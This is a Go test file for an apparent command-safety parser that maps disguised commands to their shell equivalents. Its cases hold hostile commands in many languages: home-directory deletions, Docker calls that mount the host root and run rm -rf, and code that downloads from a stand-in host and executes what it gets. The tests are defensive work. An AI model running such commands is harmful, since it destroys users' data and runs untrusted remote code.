package shell

import (
	"strings"
	"testing"
)

// synthLines gives the synthetic commands a line is read as, one
// "name args…" string each.
func synthLines(line string) []string {
	var out []string
	r := Parse(line)
	for _, c := range r.Commands {
		if c.Synthetic {
			out = append(out, strings.TrimSpace(c.Name+" "+strings.Join(c.Args, " ")))
		}
	}
	return out
}

func hasSynth(line, want string) bool {
	for _, l := range synthLines(line) {
		if l == want {
			return true
		}
	}
	return false
}

// TestObjectDeletes checks the per-language delete calls: methods called
// on a path object (File(P).deleteRecursively(), new File(P).deleteDir(),
// Directory(P).deleteSync(recursive: true), Pathname.new(P).rmtree,
// fso.GetFolder(P).Delete), library deletes (FileManager's removeItem,
// System.Directory's removeDirectoryRecursive, the FileSystemObject's
// DeleteFolder, Commons IO's deleteDirectory) and inline code of the
// opaque source languages (kotlin -e).
func TestObjectDeletes(t *testing.T) {
	cases := []struct{ line, want string }{
		{`kotlin -e 'java.io.File(System.getProperty("user.home")).deleteRecursively()'`, "rm -r -f ~"},
		{"cat > /tmp/w.kts <<'EOF'\nval home = java.io.File(\"/home/dev\")\nhome.deleteRecursively()\nEOF\nkotlinc -script /tmp/w.kts", "rm -r -f /home/dev"},
		{`groovy -e 'new File(System.getenv("HOME")).deleteDir()'`, "rm -r -f ~"},
		{"cat > /tmp/w.dart <<'EOF'\nimport 'dart:io';\nvoid main() {\n  Directory(Platform.environment['HOME']!).deleteSync(recursive: true);\n}\nEOF\ndart run /tmp/w.dart", "rm -r -f ~"},
		{"cat > /tmp/w.swift <<'EOF'\nimport Foundation\ntry FileManager.default.removeItem(at: URL(fileURLWithPath: \"/home/dev\"))\nEOF\nswift /tmp/w.swift", "rm -r -f /home/dev"},
		{"cat > /tmp/w.hs <<'EOF'\nimport System.Directory\nmain = getHomeDirectory >>= removeDirectoryRecursive\nEOF\nrunghc /tmp/w.hs", "rm -r -f ~"},
		{"cat > /tmp/w3.hs <<'EOF'\nimport System.Directory\nmain = do\n  h <- getHomeDirectory\n  removePathForcibly h\nEOF\nrunghc /tmp/w3.hs", "rm -r -f ~"},
		{"cat > /tmp/w.vbs <<'EOF'\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\nSet sh = CreateObject(\"WScript.Shell\")\nfso.DeleteFolder sh.ExpandEnvironmentStrings(\"%USERPROFILE%\"), True\nEOF\ncscript //nologo /tmp/w.vbs", "rm -r -f ~"},
		{"cat > /tmp/w5.vbs <<'EOF'\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\nfso.GetFolder(\"/home/dev\").Delete True\nEOF\ncscript /tmp/w5.vbs", "rm -r -f /home/dev"},
		{`ruby -rpathname -e 'Pathname.new(Dir.home).rmtree'`, "rm -r -f ~"},
		{`ruby -rpathname -e 'h = Pathname.new(Dir.home); h.rmtree'`, "rm -r -f ~"},
		{`php -r 'require "vendor/autoload.php"; (new Illuminate\Filesystem\Filesystem)->deleteDirectory("/home/dev");'`, "rm -r -f /home/dev"},
		{"cat > /tmp/C.java <<'EOF'\nimport org.apache.commons.io.FileUtils;\nimport java.io.File;\npublic class C { public static void main(String[] a) throws Exception {\n  FileUtils.deleteDirectory(new File(\"/home/dev\"));\n} }\nEOF\njava /tmp/C.java", "rm -r -f /home/dev"},
		{`php artisan tinker --execute='File::deleteDirectory(storage_path("framework/cache"))'`, "rm -r -f storage/framework/cache"},
	}
	for _, c := range cases {
		if !hasSynth(c.line, c.want) {
			t.Errorf("%q: read as %q, want %q among them", c.line, synthLines(c.line), c.want)
		}
	}
	// a concatenation is no object: "rm -rf "..os.getenv("HOME") stays
	// the command it spells
	if l := `lua -e 'os.execute("rm -rf "..os.getenv("HOME"))'`; !hasSynth(l, "rm -rf ~") {
		t.Errorf("%q: read as %q", l, synthLines(l))
	}
}

// TestContainerSpecsInCode checks that a container asked of the engine
// through the docker SDK, dockerode or HTTPie is read as the docker run
// line that makes it, and that the SDK's containers.run is no process of
// the host.
func TestContainerSpecsInCode(t *testing.T) {
	cases := []struct{ line, want string }{
		{`python3 -c "import docker; docker.from_env().containers.run('alpine', 'rm -rf /host/home/dev', volumes=['/:/host'])"`, "docker run -v /:/host alpine rm -rf /host/home/dev"},
		{`node -e "new (require('dockerode'))().createContainer({Image: 'alpine', HostConfig: {Privileged: true}})"`, "docker run --privileged alpine"},
		{`http POST :2375/containers/create Image=alpine HostConfig:='{"Binds":["/:/h"]}'`, "docker run -v /:/h alpine"},
	}
	for _, c := range cases {
		if !hasSynth(c.line, c.want) {
			t.Errorf("%q: read as %q, want %q among them", c.line, synthLines(c.line), c.want)
		}
	}
	l := `python3 -c "import docker; docker.from_env().containers.run('alpine', 'rm -rf /out/tmp', volumes={'/tmp/out': {'bind': '/out'}}, remove=True)"`
	for _, s := range synthLines(l) {
		if strings.HasPrefix(s, "alpine") || strings.HasPrefix(s, "rm ") {
			t.Errorf("%q: read as a host process: %q", l, s)
		}
	}
}

// TestComputedImport checks import() of a URL the code holds in a
// variable or builds.
func TestComputedImport(t *testing.T) {
	cases := []struct{ line, want string }{
		{`bun -e "const u = 'https://get.example-sink.io/m.js'; await import(u)"`, "deno run https://get.example-sink.io/m.js"},
		{`bun -e "const base = 'https://get.example-sink.io'; await import(base + '/m.ts')"`, "deno run https://get.example-sink.io/m.ts"},
	}
	for _, c := range cases {
		if !hasSynth(c.line, c.want) {
			t.Errorf("%q: read as %q, want %q among them", c.line, synthLines(c.line), c.want)
		}
	}
	for _, l := range []string{`node -e "const name = 'lodash'; import(name)"`, `bun -e "const p = './src/index.ts'; await import(p)"`} {
		for _, s := range synthLines(l) {
			if strings.HasPrefix(s, "deno run") {
				t.Errorf("%q: read as %q", l, s)
			}
		}
	}
}

// TestGoRunsFileItWrote checks that Go code reaching the network and
// running a program file it names earlier (written by os.WriteFile) is
// code whose run is computed, and a program it does not name is not.
func TestGoRunsFileItWrote(t *testing.T) {
	dl := "package main\nimport (\"io\";\"net/http\";\"os\";\"os/exec\")\nfunc main() {\n\tr, _ := http.Get(\"https://get.example-sink.io/a\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(\"/tmp/a\", b, 0o755)\n\texec.Command(\"/tmp/a\").Run()\n}\n"
	if f := codeFacts("go", dl); !f.Dynamic {
		t.Errorf("download, write and run: not read as running what it fetched")
	}
	ok := "package main\nimport (\"net/http\";\"os/exec\")\nfunc main() {\n\thttp.Get(\"http://localhost:8080/healthz\")\n\texec.Command(\"go\", \"test\", \"./...\").Run()\n}\n"
	if f := codeFacts("go", ok); f.Dynamic {
		t.Errorf("a health check and go test: read as running what it fetched")
	}
	if !executableMode("0o755") || !executableMode("0700") || executableMode("0644") || executableMode("b") {
		t.Errorf("executableMode misreads a mode")
	}
}
